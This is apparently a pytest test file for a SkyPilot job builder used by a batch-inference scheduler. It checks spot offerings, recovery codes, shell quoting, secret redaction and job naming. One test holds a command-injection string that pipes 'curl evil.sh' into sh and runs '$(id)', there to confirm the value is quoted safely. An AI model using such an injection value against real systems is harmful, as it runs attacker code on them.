"""The SkyPilot task builder: candidates, spot, recovery, quoting, secrets (no ``import sky``)."""

from __future__ import annotations

import json
import os
import re
import shlex
from datetime import datetime, timezone
from typing import Any

import pytest
import yaml

from scheduler.backends import skypilot as sp
from scheduler.backends.skypilot import _jobs
from scheduler.errors import StoreError, UsageError
from scheduler.launch import describe_option, render_run_id
from scheduler.recipe import recipe_from_dict
from scheduler.store import Heartbeat, LaunchOption

RECIPE = {
    "name": "summ",
    "input": {"path": "s3://b/in/*.parquet", "id_column": "doc_id"},
    "task": "generate",
    "model": {"engine": "vllm", "name": "meta-llama/Llama-3.1-8B-Instruct"},
    "store": "s3://b/runs",
    "limits": {"retries": 4},
}
OPTION: dict[str, Any] = {
    "accelerator": "A100-40GB",
    "accelerators_per_worker": 2,
    "spot": True,
    "workers": 3,
    "offerings": [
        {
            "cloud": "gcp",
            "region": "us-central1",
            "instance_type": "a2-highgpu-2g",
            "usd_per_hour": 3.1,
        },
        {
            "cloud": "aws",
            "region": "us-east-1",
            "instance_type": "p4d.24xlarge",
            "usd_per_hour": 2.2,
        },
        {
            "cloud": "aws",
            "region": "us-east-1",
            "instance_type": "p4d.24xlarge",
            "usd_per_hour": 2.2,
        },
    ],
}
VALID_NAME = re.compile(r"[a-zA-Z0-9]+(?:[._-]{1,2}[a-zA-Z0-9]+)*")


def _job(**kw: Any) -> sp.WorkerJob:
    args: dict[str, Any] = {
        "recipe": recipe_from_dict(RECIPE),
        "run_id": "summ-0123456789",
        "store_url": "s3://b/runs",
        "worker_index": 1,
        "option": LaunchOption.from_json(OPTION),
        "secret_names": ["HF_TOKEN"],
    }
    args.update(kw)
    return sp.build_worker_job(**args)


def test_candidates_are_the_offerings_cheapest_first_with_skypilot_names() -> None:
    res = _job().config["resources"]
    assert res["any_of"] == [
        {"infra": "aws/us-east-1", "instance_type": "p4d.24xlarge", "accelerators": "A100:2"},
        {"infra": "gcp/us-central1", "instance_type": "a2-highgpu-2g", "accelerators": "A100:2"},
    ]
    assert res["use_spot"] is True


def test_recovery_is_eager_next_region_and_skybatch_keeps_the_error_budget() -> None:
    job = _job()
    rec = job.config["resources"]["job_recovery"]
    assert rec == {
        "strategy": "EAGER_NEXT_REGION",
        # SkyPilot's counter would restart exit 2 (bad recipe) on a new GPU: never used
        "max_restarts_on_errors": 0,
        # 3: stopped by SIGTERM (spot notice); 75: an error within the recipe's budget
        "recover_on_exit_codes": [3, 75],
    }
    argv = shlex.split(job.config["run"])
    assert argv[argv.index("--max-restarts") + 1] == "4"  # limits.retries


def test_single_offering_is_put_inline_and_on_demand_plans_say_so() -> None:
    option = LaunchOption.from_json({**OPTION, "spot": False, "offerings": OPTION["offerings"][:1]})
    res = _job(option=option).config["resources"]
    assert "any_of" not in res
    assert res["infra"] == "gcp/us-central1" and res["use_spot"] is False


def test_envs_setup_and_name() -> None:
    job = _job()
    cfg = job.config
    assert cfg["envs"]["SKYBATCH_STORE"] == "s3://b/runs"
    assert cfg["envs"]["SKYBATCH_WORKER_INDEX"] == "1"
    assert VALID_NAME.fullmatch(cfg["name"]) and cfg["name"].endswith("-w1")
    # the code comes from the shipped wheel, never from an index by name
    assert "skybatch[" not in cfg["setup"] and "skybatch==" not in cfg["setup"]
    [(remote, local)] = cfg["file_mounts"].items()
    assert remote in cfg["setup"] and os.path.isfile(local)


def test_run_command_quotes_every_recipe_value() -> None:
    evil = "s3://b/runs; curl evil.sh | sh #'$(id)"
    job = _job(store_url=evil)
    argv = shlex.split(job.config["run"])
    assert argv[:4] == ["python", "-m", "scheduler.backends.skypilot", "worker"]
    assert argv[argv.index("--store") + 1] == evil
    prices = json.loads(argv[argv.index("--prices") + 1])
    assert prices == {"aws/us-east-1": 2.2, "gcp/us-central1": 3.1}
    assert "--spot" in argv


def test_secrets_are_placeholders_only() -> None:
    job = _job(secret_names=["HF_TOKEN", "MY_KEY", "HF_TOKEN"])
    assert job.secret_names == ("HF_TOKEN", "MY_KEY")
    assert job.config["secrets"] == {
        "HF_TOKEN": "<redacted: from $HF_TOKEN at launch>",
        "MY_KEY": "<redacted: from $MY_KEY at launch>",
    }


def test_secret_values_come_from_the_environment_and_missing_ones_are_named() -> None:
    assert sp.secret_values(["A"], {"A": "x"}) == {"A": "x"}
    with pytest.raises(UsageError, match="secret B is not set"):
        sp.secret_values(["A", "B"], {"A": "x"})


def test_default_secrets_only_when_set(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("HF_TOKEN", raising=False)
    assert sp.secret_names_from_env(["X_KEY"]) == ("X_KEY",)
    monkeypatch.setenv("HF_TOKEN", "t")
    assert sp.secret_names_from_env() == ("HF_TOKEN",)
    with pytest.raises(UsageError, match="not an environment variable name"):
        sp.secret_names_from_env(["bad-name"])


def test_render_yaml_is_one_document_per_worker() -> None:
    jobs = [_job(worker_index=i) for i in range(3)]
    text = sp.render_yaml(jobs)
    docs = list(yaml.safe_load_all(text))
    assert [d["envs"]["SKYBATCH_WORKER_ID"] for d in docs] == ["w0", "w1", "w2"]
    assert text.count("\n---\n") == 2
    assert docs[0]["run"] == jobs[0].config["run"]


def test_cloud_launch_refuses_a_local_store() -> None:
    with pytest.raises(StoreError, match=r"local path, which cloud workers cannot reach.*s3://"):
        sp.require_object_store("/home/me/runs")
    sp.require_object_store("gs://bucket/runs")


def test_worker_argv_reports_where_it_landed_and_that_price() -> None:
    argv = ["--store", "s3://b/r", "--run-id", "r1", "--worker-id", "w0", "--accelerator",
            "A100:2", "--prices", '{"aws/us-east-1": 2.2, "gcp/us-central1": 3.1}', "--spot"]  # fmt: skip
    env = {"SKYPILOT_CLUSTER_INFO": json.dumps({"cloud": "GCP", "region": "us-central1"})}
    out = sp.worker_argv(argv, env)
    assert out[out.index("--usd-per-hour") + 1] == "3.1"
    assert out[out.index("--cloud") + 1] == "gcp" and "--spot" in out
    # landed outside the planned list: the dearest planned price, never an undercount
    out = sp.worker_argv(argv, {})
    assert out[out.index("--usd-per-hour") + 1] == "3.1" and "--cloud" not in out


def test_job_names_stay_valid_for_any_run_id() -> None:
    for rid in ["a", "x" * 128, "nightly-2026-11-23", "a..b__c--d"]:
        name = sp.job_name(rid, 12)
        assert VALID_NAME.fullmatch(name), name
        assert len(name) <= 64


def test_run_id_templates() -> None:
    now = datetime(2026, 11, 23, 2, 15, tzinfo=timezone.utc)
    assert render_run_id("nightly-{date}", name="x", now=now) == "nightly-2026-11-23"
    assert render_run_id("{name}-%Y%m%d", name="emb", now=now) == "emb-20261123"
    assert render_run_id("fixed", name="x", now=now) == "fixed"
    with pytest.raises(UsageError, match="unknown field"):
        render_run_id("n-{day}", name="x", now=now)


def test_describe_option() -> None:
    text = describe_option(
        LaunchOption.from_json({**OPTION, "hours": 2.04, "cost_usd": 41, "p_on_time": 0.97})
    )
    assert text == "3× (A100-40GB×2) spot on gcp/us-central1 +2 · 2.0 h · $41.00 · P(on time) 0.97"


def test_queue_records_become_per_worker_states() -> None:
    rec = {"job_id": 17, "status": "RECOVERING", "recovery_count": 2, "cloud": "GCP",
           "region": "us-east4", "submitted_at": 100.0, "start_at": 160.0, "end_at": None,
           "job_duration": 50.0, "failure_reason": None}  # fmt: skip
    state = _jobs._job_state("w0", rec)
    assert (state.status, state.recovery_count, state.cloud, state.started_at) == (
        "RECOVERING", 2, "gcp", 160.0,
    )  # fmt: skip
    assert not state.is_terminal
    assert _jobs._job_state("w1", {**rec, "status": "FAILED_NO_RESOURCE"}).is_terminal
    line = sp.describe_job({**state.to_json(), "spend_usd": 1.2})
    assert line == "w0     job 17  RECOVERING  gcp/us-east4  2 recoveries  $1.20"


def test_importing_the_launch_side_does_not_import_skypilot() -> None:
    import subprocess
    import sys

    code = (
        "import sys, scheduler.backends.skypilot, scheduler.launch, scheduler.cli._launch\n"
        "heavy = sorted(m for m in ('sky', 'torch', 'duckdb', 'textual') if m in sys.modules)\n"
        "print(','.join(heavy))\n"
    )
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert out.stdout.strip() == ""


def test_a_recovered_job_counts_its_preemption() -> None:
    argv = ["--store", "s3://b/r", "--run-id", "r1", "--worker-id", "w0"]
    beats = {"w0": Heartbeat("w0", state="running", preemptions=1)}

    def previous(store: str, run_id: str, worker_id: str) -> Heartbeat | None:
        assert (store, run_id) == ("s3://b/r", "r1")
        return beats.get(worker_id)

    out = sp.worker_argv(argv, {}, previous=previous)
    assert out[out.index("--preemptions") + 1] == "2"  # vanished mid-run: preempted
    beats["w0"] = Heartbeat("w0", state="stopped", preemptions=2)  # the spot notice came first
    assert sp.worker_argv(argv, {}, previous=previous)[-1] == "3"
    beats["w0"] = Heartbeat(
        "w0", state="failed", preemptions=2
    )  # an error restart is no preemption
    assert sp.worker_argv(argv, {}, previous=previous)[-1] == "2"
    assert "--preemptions" not in sp.worker_argv(argv, {}, previous=lambda *a: None)


def test_run_command_carries_the_planned_replicas_and_the_entry_takes_them_off() -> None:
    from scheduler.backends.replicas import split_replica_flags

    option = {**OPTION, "accelerators_per_worker": 8}
    option.update(tensor_parallel_size=2, replicas_per_worker=4)
    argv = shlex.split(_job(option=LaunchOption.from_json(option)).config["run"])
    assert argv[argv.index("--replicas") + 1] == "4"
    assert argv[argv.index("--tensor-parallel-size") + 1] == "2"
    split = split_replica_flags(argv[4:])
    worker = sp.worker_argv(split.rest, {})
    assert "--replicas" not in worker and "--tensor-parallel-size" not in worker
    one_gpu = {**OPTION, "accelerators_per_worker": 1}
    run = _job(option=LaunchOption.from_json(one_gpu)).config["run"]
    assert "--replicas" not in shlex.split(run)
